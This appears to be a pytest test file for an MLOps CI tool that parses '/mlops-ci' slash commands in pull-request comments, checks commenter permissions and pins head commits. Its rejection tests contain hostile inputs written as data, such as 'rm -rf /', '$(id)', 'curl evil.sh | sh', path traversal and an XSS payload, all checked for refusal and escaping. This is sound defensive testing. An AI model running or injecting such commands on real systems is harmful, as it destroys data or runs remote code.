"""Slash commands in pull-request comments (`mlops-ci command`), against the local GitHub REST server.

The server checks every request and response against the REST contract; each test ends with
its ``assert_no_errors()``."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys

import pytest
from conftest import ROOT
from events import issue_comment_event
from servers.github import GitHubServer

from mlops_ci.cli.main import main
from mlops_ci.errors import ExitCode
from mlops_ci.render.report import MARKER, esc
from mlops_ci.slash import BadCommand, SlashCommand, command_line, grammar, parse_command, reply_for
from mlops_ci.slash.handle import handle_comment

REPO = "acme/models"
BOT = "ghs_bot0123456789"  # the workflow's GITHUB_TOKEN: github-actions[bot], write access
READ_ONLY = "ghs_fork0123456789"  # a token that cannot write
ENVS = ("staging", "prod")
OPTIONS = {"seconds_between_requests": 0, "seconds_between_writes": 0, "max_wait": 10}
OUTPUT_KEYS = ["accepted", "action", "env", "nodes", "gpus", "pr", "head-sha", "head-repository", "fork", "version"]


@pytest.fixture
def server():
    yield from slash_server()


def slash_server():
    """The local GitHub server with the repository, its bot and its collaborators."""
    with GitHubServer() as srv:
        srv.add_user("github-actions[bot]", token=BOT, type="Bot", can_get_user=False)
        srv.add_token(READ_ONLY, "github-actions[bot]", read_only=True, can_get_user=False)
        srv.add_repo(REPO, files={"README.md": "# models\n"})
        srv.add_collaborator(REPO, "github-actions[bot]", "write")
        srv.add_collaborator(REPO, "alice", "write")
        srv.add_collaborator(REPO, "maya", "maintain")
        srv.add_collaborator(REPO, "rita", "read")
        srv.add_collaborator(REPO, "tess", "triage")
        yield srv
        srv.assert_no_errors()


def event_payload(comment, number: int, *, action: str = "created", is_pr: bool = True,
                  user_type: str = "User") -> dict:
    """The ``issue_comment`` event for ``comment`` (one of the server's) on issue/PR ``number``,
    valid under the webhooks schema for ``action``."""
    return issue_comment_event(action, repo=REPO, number=number, title="A change", body=comment.body,
                               commenter=comment.user, commenter_type=user_type, comment_id=comment.id,
                               issue_author="octocat", on_pull=is_pr)


def actions_env(tmp_path, server, payload: dict, *, token: str = BOT) -> dict[str, str]:
    event = tmp_path / "event.json"
    event.write_text(json.dumps(payload), encoding="utf-8")
    return {"GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": "issue_comment", "GITHUB_EVENT_PATH": str(event),
            "GITHUB_REPOSITORY": REPO, "GITHUB_SHA": "d" * 40, "GITHUB_ACTOR": "someone-else",
            "GITHUB_TOKEN": token, "GITHUB_API_URL": server.url, "GITHUB_OUTPUT": str(tmp_path / "output")}


def outputs(env: dict[str, str]) -> dict[str, str]:
    """The step outputs written to ``$GITHUB_OUTPUT`` (a later value of a name wins)."""
    with open(env["GITHUB_OUTPUT"], encoding="utf-8") as f:
        text = f.read()
    return {m.group(1): m.group(3) for m in re.finditer(r"^([\w-]+)<<(\S+)\n(.*?)\n?\2$", text, re.MULTILINE | re.DOTALL)}


def command(server, tmp_path, body: str, *, user: str = "alice", pr=None, environments=ENVS, **payload):
    pr = pr or server.add_pull(REPO, user="octocat", head_ref="feature")
    comment = server.add_comment(REPO, pr.number, body, user=user)
    env = actions_env(tmp_path, server, event_payload(comment, pr.number, **payload))
    outcome = handle_comment(env, environments=environments, client_options=OPTIONS)
    return outcome, env, pr, comment


def replies(server, pr) -> list:
    return [c for c in server.comments(REPO, pr.number) if c.user == "github-actions[bot]"]


def reactions(server, comment) -> list[tuple[str, str]]:
    return [(r.content, r.user) for r in server.comment(comment.id).reactions]


# -- the grammar -------------------------------------------------------------------------------------
@pytest.mark.parametrize(("body", "expected"), [
    ("/mlops-ci train", SlashCommand("train")),
    ("/mlops-ci train nodes=2 gpus=8", SlashCommand("train", nodes=2, gpus=8)),
    ("/mlops-ci train gpus=16 nodes=64", SlashCommand("train", nodes=64, gpus=16)),
    ("  \n\n  /mlops-ci   train\tnodes=1  \nthanks, see the drift above", SlashCommand("train", nodes=1)),
    ("/mlops-ci promote staging", SlashCommand("promote", env="staging")),
    ("/mlops-ci rollback prod\r\n", SlashCommand("rollback", env="prod")),
])
def test_valid_commands_parse(body, expected):
    assert parse_command(body, ENVS) == expected


@pytest.mark.parametrize(("body", "reason"), [
    ("/mlops-ci", "no command"),
    ("/mlops-ci deploy prod", "unknown command"),
    ("/mlops-ci Train", "unknown command"),
    ("/mlops-ci train nodes=2;rm -rf /", "only `nodes=N` and `gpus=G`"),
    ("/mlops-ci train nodes=$(id)", "only `nodes=N` and `gpus=G`"),
    ("/mlops-ci promote $(id)", "unknown environment"),
    ("/mlops-ci promote `id`", "unknown environment"),
    ("/mlops-ci promote staging; curl evil.sh | sh", "exactly one environment"),
    ("/mlops-ci promote ../../etc", "unknown environment"),
    ("/mlops-ci train nodes=2 nodes=3", "more than once"),
    ("/mlops-ci train gpus=1 gpus=1", "more than once"),
    ("/mlops-ci train nodes=0", "only `nodes=N`"),  # no leading zero, no zero
    ("/mlops-ci train nodes=02", "only `nodes=N`"),
    ("/mlops-ci train nodes=-1", "only `nodes=N`"),
    ("/mlops-ci train nodes=65", "from 1 to 64"),
    ("/mlops-ci train gpus=17", "from 1 to 16"),
    ("/mlops-ci train nodes=2.5", "only `nodes=N`"),
    ("/mlops-ci train nodes=٣", "plain ASCII"),  # an Arabic-Indic digit, which int() would take
    ("/mlops-ci train nodes=2 extra", "only `nodes=N`"),
    ("/mlops-ci train NODES=2", "only `nodes=N`"),
    ("/mlops-ci promote", "exactly one environment"),
    ("/mlops-ci promote staging prod", "exactly one environment"),
    ("/mlops-ci promote production", "unknown environment"),
    ("/mlops-ci rollback Staging", "unknown environment"),
    ("/mlops-ci promote staging\u200b", "plain ASCII"),
    ("/mlops-ci train\n/mlops-ci promote prod", "one command per comment"),
    ("/mlops-ci train " + "x" * 300, "longer than 200"),
])
def test_invalid_commands_are_refused_with_a_reason(body, reason):
    parsed = parse_command(body, ENVS)
    assert isinstance(parsed, BadCommand), parsed
    assert reason in parsed.reason


@pytest.mark.parametrize("body", ["", "   \n", "LGTM", "please /mlops-ci train", "> /mlops-ci train",
                                  "/mlops-citrain", "/mlops-ci-bot train", "`/mlops-ci train`",
                                  "thanks!\n/mlops-ci train"])
def test_comments_that_are_not_commands(body):
    assert parse_command(body, ENVS) is None and command_line(body) is None


def test_without_a_config_an_environment_must_be_a_plain_name():
    assert parse_command("/mlops-ci promote eu-west-1", None) == SlashCommand("promote", env="eu-west-1")
    assert parse_command("/mlops-ci promote " + "a" * 32, None) == SlashCommand("promote", env="a" * 32)
    for env in ("a" * 33, "-prod", "Prod", "prod_1", "prod.1", "$(id)", "..", "prod/x"):
        assert isinstance(parse_command(f"/mlops-ci rollback {env}", None), BadCommand), env
    assert "`prod`, `staging`" in grammar(ENVS) and "at most 32 characters" in grammar(None)


# -- answering on the pull request ---------------------------------------------------------------------
def test_a_writer_s_train_command_is_accepted_and_pinned(server, tmp_path):
    outcome, env, pr, comment = command(server, tmp_path, "/mlops-ci train nodes=2 gpus=4")
    sha = pr.pull.head_sha
    assert outcome.accepted
    assert reactions(server, comment) == [("rocket", "github-actions[bot]")]
    [reply] = replies(server, pr)
    assert sha in reply.body and "`/mlops-ci train nodes=2 gpus=4`" in reply.body
    assert reply_for(reply.body) == comment.id and MARKER not in reply.body
    assert not reply.body.lstrip().startswith("/mlops-ci")  # the reply is never a command itself
    assert outputs(env) == {"accepted": "true", "action": "train", "env": "", "nodes": "2", "gpus": "4",
                            "pr": str(pr.number), "head-sha": sha, "head-repository": REPO, "fork": "false",
                            "version": ""}
    assert [(r.method, r.operation) for r in server.requests()] == [
        ("GET", "repos/get-collaborator-permission-level"), ("GET", "pulls/get"),
        ("POST", "reactions/create-for-issue-comment"), ("POST", "issues/create-comment")]
    assert server.requests("GET", "/permission$")[0].path == f"/repos/{REPO}/collaborators/alice/permission"


def test_a_command_from_a_user_without_write_permission_is_refused(server, tmp_path):
    pr = server.add_pull(REPO, user="octocat")
    # read and triage roles (GitHub says "read"), anyone (public repository), a deleted account (404)
    for user, permission in (("rita", "read"), ("tess", "read"), ("mallory", "read"), ("ghost", "none")):
        server.clear_log()
        comment = server.add_comment(REPO, pr.number, "/mlops-ci promote prod", user=user)
        if user == "ghost":
            del server._users["ghost"]
        env = actions_env(tmp_path, server, event_payload(comment, pr.number))
        outcome = handle_comment(env, environments=ENVS, client_options=OPTIONS)
        assert not outcome.accepted and "write permission" in outcome.decision.reason
        assert reactions(server, comment) == [("-1", "github-actions[bot]")]
        reply = replies(server, pr)[-1]
        assert reply_for(reply.body) == comment.id
        assert "needs write permission" in reply.body and f"has {permission}" in reply.body
        assert "admin, maintain or write" in reply.body and MARKER not in reply.body
        assert outputs(env) == dict(zip(OUTPUT_KEYS, ["false", "", "", "", "", str(pr.number), "", "", "false", ""]))
        # no other side effect: the pull request is not even read
        assert [r.operation for r in server.requests()] == [
            "repos/get-collaborator-permission-level", "reactions/create-for-issue-comment",
            "issues/create-comment"]
    assert len(replies(server, pr)) == 4


def test_admin_and_maintain_are_accepted(server, tmp_path):
    pr = server.add_pull(REPO, user="octocat")
    for user in ("acme", "maya"):
        outcome, env, _, _ = command(server, tmp_path, "/mlops-ci rollback staging", user=user, pr=pr)
        assert outcome.accepted and outputs(env)["action"] == "rollback" and outputs(env)["env"] == "staging"


def test_a_bad_command_is_answered_with_the_grammar_and_quoted_escaped(server, tmp_path):
    body = "/mlops-ci promote <img src=x onerror=alert(1)> @bob $(id) [x](http://evil)"
    outcome, env, pr, comment = command(server, tmp_path, body)
    assert not outcome.accepted
    assert reactions(server, comment) == [("confused", "github-actions[bot]")]
    [reply] = replies(server, pr)
    assert re.search(r"(?<!\\)<img", reply.body) is None and "\\<img" in reply.body
    assert "@bob" not in reply.body and "@\u200bbob" in reply.body
    assert "](http" not in reply.body and f"> {esc(body)}" in reply.body  # the report's escaping
    assert "`/mlops-ci train [nodes=N] [gpus=G] [@SHA]`" in reply.body and "`prod`, `staging`" in reply.body
    assert outputs(env)["accepted"] == "false" and server.count("GET", r"/pulls/") == 0


def test_a_shell_injection_attempt_is_refused(server, tmp_path):
    outcome, env, pr, comment = command(server, tmp_path, "/mlops-ci train nodes=2;rm -rf /")
    assert not outcome.accepted and outputs(env)["action"] == "" and outputs(env)["nodes"] == ""
    assert reactions(server, comment) == [("confused", "github-actions[bot]")]
    assert "nodes=2;rm -rf /" in replies(server, pr)[0].body


@pytest.mark.parametrize(("body", "payload"), [
    ("LGTM, thanks!", {}),
    ("/mlops-ci train", {"action": "edited"}),
    ("/mlops-ci train", {"action": "deleted"}),
    ("/mlops-ci train", {"is_pr": False}),
    ("/mlops-ci train", {"user_type": "Bot"}),
])
def test_comments_left_alone_send_nothing(server, tmp_path, body, payload):
    user = "dependabot[bot]" if payload.get("user_type") == "Bot" else "alice"
    outcome, env, pr, comment = command(server, tmp_path, body, user=user, **payload)
    assert outcome.ignored and outcome.decision is None
    assert server.requests() == []  # nothing read, nothing written
    assert server.comment(comment.id).reactions == [] and replies(server, pr) == []
    assert outputs(env)["accepted"] == "false" and outputs(env)["head-sha"] == ""


def test_the_head_sha_is_pinned_at_command_time(server, tmp_path):
    pr = server.add_pull(REPO, user="octocat", head_ref="feature")
    first = pr.pull.head_sha
    outcome, env, _, _ = command(server, tmp_path, "/mlops-ci train", pr=pr)
    # the pull request moves on after the command
    moved = server.commit_files(REPO, "feature", {"train.py": "print('v2')\n"})
    server.repo(REPO, live=True).issues[pr.number].pull.head_sha = moved
    assert outputs(env)["head-sha"] == first != moved
    assert outcome.decision.pull.head_sha == first and first in replies(server, pr)[0].body
    assert outputs(env)["head-sha"] != env["GITHUB_SHA"]  # the PR's head, not the default branch
    # a new command pins the new head
    (tmp_path / "output").unlink()
    _, env, _, _ = command(server, tmp_path, "/mlops-ci train nodes=4", pr=pr)
    assert outputs(env)["head-sha"] == moved and outputs(env)["nodes"] == "4"


def test_train_on_a_closed_pr_is_refused_but_promote_is_not(server, tmp_path):
    pr = server.add_pull(REPO, user="octocat", state="closed")
    outcome, env, _, comment = command(server, tmp_path, "/mlops-ci train", pr=pr)
    assert not outcome.accepted and f"#{pr.number} is closed" in replies(server, pr)[-1].body
    assert reactions(server, comment) == [("-1", "github-actions[bot]")] and outputs(env)["accepted"] == "false"
    (tmp_path / "output").unlink()
    outcome, env, _, _ = command(server, tmp_path, f"/mlops-ci promote staging @{pr.pull.head_sha[:7]}", pr=pr)
    assert outcome.accepted and outputs(env)["head-sha"] == pr.pull.head_sha


def test_a_fork_pr_is_trained_only_at_the_named_head_and_flagged_in_the_outputs(server, tmp_path):
    pr = server.add_pull(REPO, user="mallory", head_repo="mallory/models", head_ref="patch")
    outcome, env, _, _ = command(server, tmp_path, "/mlops-ci train gpus=1", pr=pr)
    assert not outcome.accepted and outputs(env)["accepted"] == "false"
    refusal = replies(server, pr)[0].body
    assert "training a fork's code must name the head commit you reviewed" in refusal
    assert f"`/mlops-ci train gpus=1 @{pr.pull.head_sha[:12]}`" in refusal
    (tmp_path / "output").unlink()
    outcome, env, _, _ = command(server, tmp_path, f"/mlops-ci train gpus=1 @{pr.pull.head_sha[:12]}", pr=pr)
    out = outputs(env)
    assert outcome.accepted and out["fork"] == "true" and out["head-repository"] == "mallory/models"
    assert out["head-sha"] == pr.pull.head_sha and out["gpus"] == "1"
    assert "mallory/models" in replies(server, pr)[-1].body


def test_a_502_on_the_permission_read_is_retried(server, tmp_path):
    server.inject("bad_gateway", method="GET", path=r"/permission$", times=2)
    outcome, env, _, _ = command(server, tmp_path, "/mlops-ci rollback staging")
    assert outcome.accepted and outputs(env)["accepted"] == "true"
    assert [r.status for r in server.requests("GET", r"/permission$")] == [502, 502, 200]


def test_a_reply_that_failed_after_commit_is_not_posted_twice(server, tmp_path):
    server.inject("fail_after_commit", method="POST", path=r"/issues/\d+/comments$")
    outcome, _, pr, _ = command(server, tmp_path, "/mlops-ci train")
    assert outcome.accepted and len(replies(server, pr)) == 1
    assert server.count("POST", r"/issues/\d+/comments$") == 1


# -- the command line --------------------------------------------------------------------------------
def test_cli_command_in_a_subprocess_writes_the_outputs(server, tmp_path):
    shutil.copy(ROOT / "examples" / "churn" / ".mlops-ci.yaml", tmp_path / ".mlops-ci.yaml")
    pr = server.add_pull(REPO, user="octocat")
    comment = server.add_comment(REPO, pr.number, "/mlops-ci rollback prod", user="alice")
    env = actions_env(tmp_path, server, event_payload(comment, pr.number))
    proc = subprocess.run([sys.executable, "-m", "mlops_ci", "command"], check=False, cwd=tmp_path, capture_output=True,
                          text=True, timeout=120, env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), **env})
    assert proc.returncode == 0, proc.stderr
    assert outputs(env) == {"accepted": "true", "action": "rollback", "env": "prod", "nodes": "", "gpus": "",
                            "pr": str(pr.number), "head-sha": pr.pull.head_sha, "head-repository": REPO,
                            "fork": "false", "version": ""}
    assert "accepted `/mlops-ci rollback prod`" in proc.stderr and BOT not in proc.stdout + proc.stderr
    assert reactions(server, comment) == [("rocket", "github-actions[bot]")]


def test_cli_refuses_an_environment_missing_from_the_config(server, tmp_path, monkeypatch):
    shutil.copy(ROOT / "examples" / "churn" / ".mlops-ci.yaml", tmp_path / ".mlops-ci.yaml")
    pr = server.add_pull(REPO, user="octocat")
    comment = server.add_comment(REPO, pr.number, "/mlops-ci promote eu-west", user="alice")
    for key, value in actions_env(tmp_path, server, event_payload(comment, pr.number)).items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(tmp_path)
    assert main(["command"]) == 0
    assert outputs({"GITHUB_OUTPUT": str(tmp_path / "output")})["accepted"] == "false"
    assert "unknown environment" in replies(server, pr)[0].body


def test_cli_dry_run_sends_nothing(server, tmp_path, monkeypatch, capsys):
    pr = server.add_pull(REPO, user="octocat")
    comment = server.add_comment(REPO, pr.number, "/mlops-ci train nodes=2", user="alice")
    for key, value in actions_env(tmp_path, server, event_payload(comment, pr.number)).items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(tmp_path)  # no config here: any plain environment name
    assert main(["command", "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "would react `rocket`" in out and pr.pull.head_sha in out and "accepted=true" in out
    assert server.requests("POST") == [] and replies(server, pr) == []
    assert not (tmp_path / "output").exists()


def test_cli_exits_5_when_github_fails(server, tmp_path, monkeypatch, capsys):
    pr = server.add_pull(REPO, user="octocat")
    comment = server.add_comment(REPO, pr.number, "/mlops-ci train", user="alice")
    for key, value in actions_env(tmp_path, server, event_payload(comment, pr.number), token=READ_ONLY).items():
        monkeypatch.setenv(key, value)
    monkeypatch.chdir(tmp_path)
    assert main(["command"]) == ExitCode.BACKEND
    err = capsys.readouterr().err
    assert f"/repos/{REPO}/issues/comments/{comment.id}/reactions" in err and "403" in err
    assert READ_ONLY not in err
    assert outputs({"GITHUB_OUTPUT": str(tmp_path / "output")})["accepted"] == "false"


def test_cli_dry_run_without_a_token_parses_and_reads_nothing(server, tmp_path, monkeypatch, capsys):
    pr = server.add_pull(REPO, user="octocat")
    comment = server.add_comment(REPO, pr.number, "/mlops-ci rollback prod", user="alice")
    for key, value in actions_env(tmp_path, server, event_payload(comment, pr.number)).items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("GITHUB_TOKEN")
    monkeypatch.chdir(tmp_path)
    assert main(["command", "--dry-run"]) == 0
    assert "would read the permission of alice" in capsys.readouterr().out
    assert server.requests() == []
    assert main(["command"]) == ExitCode.BACKEND  # for real, a token is required
    assert "GITHUB_TOKEN is not set" in capsys.readouterr().err


def test_promote_and_rollback_into_an_environment_with_approvers_need_one_of_them(server, tmp_path, monkeypatch):
    """`environments.prod.policy.approvers`: a writer who is not listed is refused, with who can."""
    config = (ROOT / "examples" / "churn" / ".mlops-ci.yaml").read_text()
    (tmp_path / ".mlops-ci.yaml").write_text(config.replace(
        "    namespace: churn-prod\n", "    namespace: churn-prod\n    policy: {approvers: [maya]}\n", 1))
    monkeypatch.chdir(tmp_path)
    pr = server.add_pull(REPO, user="octocat")
    answered = []
    for user, body in (("alice", "/mlops-ci rollback prod"), ("maya", "/mlops-ci rollback prod"),
                       ("alice", "/mlops-ci rollback staging")):
        comment = server.add_comment(REPO, pr.number, body, user=user)
        for key, value in actions_env(tmp_path, server, event_payload(comment, pr.number)).items():
            monkeypatch.setenv(key, value)
        assert main(["command"]) == 0
        answered.append(outputs({"GITHUB_OUTPUT": str(tmp_path / "output")})["accepted"])
    assert answered == ["false", "true", "true"]  # staging lists no approvers: any writer
    refusal = replies(server, pr)[0].body
    assert "alice is not an approver of `prod`" in refusal and "`maya`" in refusal


def test_approvers_must_be_github_logins_or_teams(tmp_path):
    """Teams (org/team-slug) are read too: tests/github/test_approvers.py."""
    from mlops_ci.config import load_config
    from mlops_ci.errors import ConfigError

    config = (ROOT / "examples" / "churn" / ".mlops-ci.yaml").read_text()
    (tmp_path / ".mlops-ci.yaml").write_text(config.replace(
        "    namespace: churn-prod\n", "    namespace: churn-prod\n    policy: {approvers: ['@maya']}\n", 1))
    with pytest.raises(ConfigError, match="approvers.0: '@maya' is neither a GitHub login"):
        load_config(tmp_path / ".mlops-ci.yaml")
